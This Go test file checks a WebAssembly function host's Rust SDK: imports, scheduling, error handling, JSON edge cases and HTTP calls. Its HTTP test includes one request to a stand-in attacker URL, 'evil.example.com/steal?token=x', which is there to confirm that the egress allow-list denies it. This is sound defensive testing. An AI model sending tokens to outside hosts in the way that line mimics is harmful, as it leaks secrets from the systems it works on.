package hosttest_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"math/rand/v2"
	"net/http"
	"path/filepath"
	"strconv"
	"sync"
	"testing"
	"time"

	cloudevents "github.com/cloudevents/sdk-go/v2"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/wasmfaas/wasmfaas/abi"
	"github.com/wasmfaas/wasmfaas/host"
	"github.com/wasmfaas/wasmfaas/host/egress"
	"github.com/wasmfaas/wasmfaas/host/hosttest"
	"github.com/wasmfaas/wasmfaas/store/storetest"
)

// buildRust builds a Rust guest (a cargo package) under the repository.
func buildRust(t testing.TB, path string) []byte {
	t.Helper()
	return buildWith(t, hosttest.BuildRust, path)
}

// TestRustExampleImports checks that the linker keeps only the host
// functions a Rust example uses, so that each needs no capability beyond its
// suite.json (fetch, which has none: beyond the Go version's), and that the
// SDK's handler! makes an ABI v1 reactor (_initialize, no _start) while
// wasi-upper stays a WASI command.
func TestRustExampleImports(t *testing.T) {
	h := newHost(t)
	for _, tc := range []struct {
		name string
		mode abi.Mode
		caps []abi.Capability // beyond the defaults
	}{
		{"hello", abi.ModeReactor, nil},
		{"counter", abi.ModeReactor, []abi.Capability{abi.CapProps}},
		{"temperature", abi.ModeReactor, []abi.Capability{abi.CapEmit, abi.CapProps}},
		{"reminder", abi.ModeReactor, []abi.Capability{abi.CapConfig, abi.CapProps, abi.CapSchedule}},
		{"fetch", abi.ModeReactor, []abi.Capability{abi.CapHTTP}},
		{"wasi-upper", abi.ModeCommand, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			m, err := h.Load(t.Context(), buildRust(t, filepath.Join("examples", tc.name, "rust")))
			require.NoError(t, err)
			t.Logf("%s imports %v, exports %v", tc.name, m.Imports, m.Exports)
			assert.Equal(t, tc.mode, m.Mode)
			if tc.mode == abi.ModeReactor {
				assert.True(t, m.Info().HasInit, "a reactor exports _initialize: %v", m.Exports)
				assert.NotContains(t, m.Exports, abi.StartExport)
			}
			assert.ElementsMatch(t, tc.caps, extraCapabilities(m), "imports: %v", m.Imports)
		})
	}
}

// TestRustScheduleAndResponse drives the SDK's schedule_at, schedule_in,
// cancel_schedule, set_status and set_header through a Rust guest: what the
// host records for good values, the SDK's own refusal of a negative delay
// (nothing reaches the host), and the sticky failures of an empty key and a
// status outside 100-599.
func TestRustScheduleAndResponse(t *testing.T) {
	runScheduleGuest(t, buildRust(t, "host/hosttest/testdata/rustguests/schedules"), host.Header{Name: "X-Indexes", Value: "0 1"}, nil, []scheduleStep{
		{"badkey", abi.KindInvalidSchedule, "scheduled event 0"},
		{"badstatus", abi.KindInvalidResponse, "42 is not an HTTP status code"},
	})
}

// TestRustBadInput: Rust guests that misuse the ABI (through the SDK's raw
// imports, with unsafe) or panic end as trap or error with a clear message,
// and the next call on the same function is ok.
func TestRustBadInput(t *testing.T) {
	runBadInput(t, func(t *testing.T, guest string) []byte {
		return buildRust(t, filepath.Join("host", "hosttest", "testdata", "rustguests", guest))
	}, append(abiMisuse(), badInputCase{
		name: "panic", guest: "panic",
		status: host.StatusTrap, message: []string{"rust guest gave up: index 3 of 0 items"},
	}))
}

// TestRustJSONHelpers compares the Rust SDK's JSON encoder and decoder with
// encoding/json and fmt on edge values, random floats and naughty strings,
// and its typed decoding's rejections with the Go SDK's messages, through
// one pooled instance.
func TestRustJSONHelpers(t *testing.T) {
	h := newHost(t)
	fn, err := h.Deploy(t.Context(), "jsoncheck", buildRust(t, "host/hosttest/testdata/rustguests/jsoncheck"))
	require.NoError(t, err)
	call := func(typ string, data []byte) string {
		t.Helper()
		ev := cloudevents.NewEvent()
		ev.SetID("json")
		ev.SetSource("test")
		ev.SetType(typ)
		require.NoError(t, ev.SetData("application/octet-stream", data))
		info := h.Send(t.Context(), fn, ev)
		require.Equal(t, host.StatusOK, info.Status, "%s %q: %+v", typ, data, info.Error)
		return string(info.Result.Body)
	}

	floats := []float64{0, math.Copysign(0, -1), 1, 10, 47.5, -273.15, 0.1, 1e20, 1e21, 1e-6, 1e-7, 123456789.123,
		1e6, 999999, 1234567, 0.0001, 0.00001, 5e-324, math.MaxFloat64, math.Pi, -1e-300, 100000, 1e-5, 12345.678,
		-125539696314135.125, 0.125, 2.5e-8, 1 << 62} // -125539696314135.125 is a tie: Go rounds the last digit to even, Rust up
	r := rand.New(rand.NewPCG(3, 4))
	for range 200 {
		floats = append(floats, r.NormFloat64()*math.Pow(10, float64(r.IntN(60)-30)))
	}
	for _, f := range floats {
		in := []byte(strconv.FormatFloat(f, 'g', -1, 64))
		want, err := json.Marshal(f)
		require.NoError(t, err)
		assert.Equal(t, string(want), call("number", in), "Writer::f64(%s)", in)
		assert.Equal(t, fmt.Sprintf("%g", f), call("g", in), "json::format_g(%s)", in)
	}

	strs, err := storetest.NaughtyStrings()
	require.NoError(t, err)
	strs = append(strs, "\xff", "a\xc0\x80b", "\xed\xa0\x80", "\xe2\x82", "\u2028\u2029", "<&>", "\x00\x01\x1f\x7f", "\b\f\n\r\t", "\U0001F600", "\ufffd")
	for _, s := range strs {
		want, err := json.Marshal(s)
		require.NoError(t, err)
		assert.Equal(t, string(want), call("quote", []byte(s)), "Writer::bytes_string(%q)", s)
		var dec string
		require.NoError(t, json.Unmarshal(want, &dec))
		assert.Equal(t, dec, call("string", want), "json::parse(%s)", want)
	}
	for in, want := range map[string]string{
		`"\ud83d\ude00"`: "\U0001F600", `"\ud800x"`: "\ufffdx", `"a\/b\n"`: "a/b\n", `"\ud800\u0041"`: "\ufffdA",
		"\"\xff\"": "\ufffd", "\"\xe2\x82\"": "\ufffd\ufffd",
	} {
		var dec string
		require.NoError(t, json.Unmarshal([]byte(in), &dec), in)
		assert.Equal(t, dec, want, "encoding/json decodes %s as %q", in, dec)
		assert.Equal(t, want, call("string", []byte(in)), "json::parse(%s)", in)
	}

	deep := make([]byte, 0, 20000)
	for range 10000 {
		deep = append(deep, '[')
	}
	for in, want := range map[string]string{
		`{"a": [1, {"b": null}]}`: "object", ` [] `: "array", `"x"`: "string", `-0.5e+3`: "number",
		`true`: "bool", `null`: "null", `01`: "invalid", `{"a" 1}`: "invalid", `[1,]`: "invalid",
		`"\x01"`: "invalid", ``: "invalid", `1 2`: "invalid", string(deep): "invalid", `1.`: "invalid",
		`-`: "invalid", `1e`: "invalid", `tru`: "invalid", `{"a":1,}`: "invalid", `"\u12"`: "invalid", `"\q"`: "invalid",
	} {
		assert.Equal(t, want, call("type", []byte(in)), "json::parse(%.40s)", in)
		assert.Equal(t, want != "invalid", json.Valid([]byte(in)), "encoding/json agrees on %.40s", in)
	}

	// The rejections of the Go SDK's decode tests (guest-sdks/go
	// decode_test.go) for the same record.
	for in, want := range map[string]string{
		`{"device": "d", "location": {"lat": 1, "lon": 2}, "samples": [{"v": 0}]}`: `{"device":"d","location":{"lat":1,"lon":2},"samples":[0]}`,
		`{"DEVICE": "case"}`:                         `{"device":"case","samples":[]}`,
		`{"device": "d", "location": {"lat": 1}}`:    `invalid_input: data.location: field "lon" is required`,
		`{"device": "d", "samples": [{"v": 1}, {}]}`: `invalid_input: data.samples[1]: field "v" is required`,
		`{"device": "d", "location": {"lat": "n"}}`:  `invalid_input: data: field "location.lat" must be a number, got string`,
		`{"device": 1}`:                              `invalid_input: data: field "device" must be a string, got number`,
		`null`:                                       `invalid_input: data: field "device" is required`,
		`[1]`:                                        `invalid_input: data: must be an object, got array`,
		` `:                                          `invalid_input: data: invalid JSON: no data`,
		`{"device": }`:                               `invalid_input: data: invalid JSON: invalid character '}' looking for beginning of value (at byte 12)`,
		`{"device": "d"} trailing`:                   `invalid_input: data: invalid JSON: invalid character 't' after top-level value (at byte 17)`,
		`{"device": "d", "samples": [{"v": 1e400}]}`: `invalid_input: data: field "samples[0].v" must be a number, got number 1e400`,
	} {
		assert.Equal(t, want, call("decode", []byte(in)), "decode_json(%s)", in)
	}
}

// rustHTTPOutcome is one request's report from the Rust httpcheck guest.
type rustHTTPOutcome struct {
	Status  int         `json:"status"`
	Headers [][2]string `json:"headers"`
	Body    string      `json:"body"`
	Lookup  *string     `json:"lookup"`
	Error   string      `json:"error"`
	Code    int         `json:"code"` // a Status's code; 0 for a response
}

// TestRustHTTP drives the SDK's Http through a Rust guest: request, get
// and post reach the server with their method, headers and body; any status
// is a Response whose headers are sorted, lower-case pairs and whose
// header(name) joins repeated values; a request that got no response is an
// Error carrying the host's reason and the Status (DENIED, TIMEOUT,
// INVALID); a NUL in a header is refused by the SDK before the host.
func TestRustHTTP(t *testing.T) {
	var mu sync.Mutex
	var seen []string
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		seen = append(seen, fmt.Sprintf("%s %s ct=%q x-test=%q body=%q", r.Method, r.URL.Path, r.Header.Get("Content-Type"), r.Header.Values("X-Test"), b))
		mu.Unlock()
		switch r.URL.Path {
		case "/hang":
			<-r.Context().Done()
			return
		case "/missing":
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/plain")
		w.Header().Add("X-Reply", "a")
		w.Header().Add("X-Reply", "b")
		w.WriteHeader(http.StatusCreated)
		_, _ = io.WriteString(w, "hello "+string(b))
	})
	h := newHTTPHost(t, egress.Config{})
	fn, err := h.Deploy(t.Context(), "rusthttp", buildRust(t, "host/hosttest/testdata/rustguests/httpcheck"),
		hosttest.Grant(abi.CapHTTP), hosttest.AllowHosts(srv.hostPort()),
		hosttest.WithLimits(host.Limits{HTTPTimeout: 300 * time.Millisecond, Timeout: 10 * time.Second}))
	require.NoError(t, err)
	t.Cleanup(func() { _ = fn.Close(context.Background()) })

	type request struct {
		Call        string      `json:"call,omitempty"`
		Method      string      `json:"method,omitempty"`
		URL         string      `json:"url"`
		Headers     [][2]string `json:"headers,omitempty"`
		Body        string      `json:"body,omitempty"`
		ContentType string      `json:"content_type,omitempty"`
		Lookup      string      `json:"lookup,omitempty"`
	}
	reqs := []request{
		{Method: "PUT", URL: srv.URL + "/put", Headers: [][2]string{{"X-Test", "1"}, {"X-Test", "2"}}, Body: "world", Lookup: "X-REPLY"},
		{Call: "get", URL: srv.URL + "/get", Lookup: "x-absent"},
		{Call: "post", URL: srv.URL + "/post", ContentType: "application/json", Body: `{"a":1}`, Lookup: "content-type"},
		{Call: "get", URL: srv.URL + "/missing"},
		{Call: "get", URL: "https://evil.example.com/steal?token=x"},
		{Call: "get", URL: srv.URL + "/hang"},
		{Call: "get", URL: "ftp://" + srv.hostPort() + "/"},
		{URL: srv.URL + "/nul", Headers: [][2]string{{"X-Nul", "a\x00b"}}},
	}
	info := h.Send(t.Context(), fn, hosttest.NewEvent("com.example.http", "", reqs))
	require.Equal(t, host.StatusOK, info.Status, "%+v", info.Error)
	var out []rustHTTPOutcome
	require.NoError(t, json.Unmarshal(info.Result.Body, &out), string(info.Result.Body))
	require.Len(t, out, len(reqs))
	str := func(s string) *string { return &s }

	assert.Equal(t, rustHTTPOutcome{Status: 201, Body: "hello world", Lookup: str("a, b"), Headers: [][2]string{
		{"content-length", "11"}, {"content-type", "text/plain"}, {"date", headerValue(out[0].Headers, "date")},
		{"x-reply", "a"}, {"x-reply", "b"},
	}}, out[0])
	assert.Equal(t, 201, out[1].Status, "%+v", out[1])
	assert.Nil(t, out[1].Lookup, "an absent header is None")
	assert.Equal(t, 201, out[2].Status, "%+v", out[2])
	assert.Equal(t, str("text/plain"), out[2].Lookup)
	assert.Equal(t, `hello {"a":1}`, out[2].Body)
	assert.Equal(t, 404, out[3].Status, "a 404 is a response: %+v", out[3])
	assert.Zero(t, out[3].Code)

	assert.Equal(t, "http request: host evil.example.com (port 443) is not on the function's allow-list", out[4].Error)
	assert.Equal(t, int(abi.Denied), out[4].Code)
	assert.Contains(t, out[5].Error, fmt.Sprintf("http request: host 127.0.0.1 (port %s) did not answer within the function's http_timeout of 300ms", srv.port))
	assert.Equal(t, int(abi.Timeout), out[5].Code)
	assert.Contains(t, out[6].Error, `scheme "ftp" is not http or https`)
	assert.Equal(t, int(abi.Invalid), out[6].Code)
	assert.Equal(t, `http request: header "X-Nul" contains NUL`, out[7].Error)
	assert.Equal(t, int(abi.Invalid), out[7].Code)

	require.Len(t, info.HTTPRequests, len(reqs)-1, "the SDK refused the NUL header without asking the host")
	mu.Lock()
	defer mu.Unlock()
	assert.Equal(t, []string{
		`PUT /put ct="" x-test=["1" "2"] body="world"`,
		`GET /get ct="" x-test=[] body=""`,
		`POST /post ct="application/json" x-test=[] body="{\"a\":1}"`,
		`GET /missing ct="" x-test=[] body=""`,
		`GET /hang ct="" x-test=[] body=""`,
	}, seen)
}

// headerValue returns the first value of name in a list of pairs, for a
// header whose value the test cannot know (date).
func headerValue(hs [][2]string, name string) string {
	for _, h := range hs {
		if h[0] == name {
			return h[1]
		}
	}
	return ""
}
